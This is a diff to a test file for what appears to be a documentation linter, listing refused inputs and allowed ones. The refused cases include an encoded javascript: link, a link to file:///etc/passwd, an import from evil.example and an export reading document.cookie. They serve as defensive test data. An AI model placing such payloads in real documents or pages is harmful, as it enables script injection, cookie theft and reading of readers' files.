@@ -73,6 +73,9 @@ const PUBLISHED: readonly Refused[] = [
 
 /** Other ways to write the same, in other kinds of files, each with its rule. */
 const VARIANTS: readonly Refused[] = [
+  ['a link that runs script', GUIDE, '[a](java&#115;cript:alert(1))', 'https: and mailto:'],
+  ['a link to a file of the reader', SPEC, 'description: "[a](file:///etc/passwd)"', 'https: and mailto:'],
+  ['a variable in place of a host', GUIDE, bash(`curl https://$H/ ${KEY}`), 'Write the whole host.'],
   ['a statement', GUIDE, "import a from 'https://evil.example/a.js'", 'own-imports'],
   ['an export', GUIDE, "import Tabs from '@theme/Tabs';\nexport const a = document.cookie;", ':2 `export const'],
   ['a folder above the components', GUIDE, "import {a} from '@site/src/components/../../evil';", 'own-imports'],
@@ -129,6 +132,7 @@ const VARIANTS: readonly Refused[] = [
 ];
 
 const ALLOWED: readonly (readonly [file: string, text: string])[] = [
+  [GUIDE, 'A developer 👩\u200D💻 likes ❤\uFE0F.'],
   [GUIDE, bash('curl -sS "https://api.salesloft.com/v2/me" \\', `  ${KEY}`)],
   [SAMPLE, `API=\${SALESLOFT_API_URL:-https://api.salesloft.com}\ncurl "$API/v2/me" ${KEY} -o me.json`],
   [SAMPLE, `curl http://127.0.0.1:\${PORT}/ ${KEY}\ncurl https://localhost:8444/ ${KEY}\ncurl http://[::1]:80/ ${KEY}`],
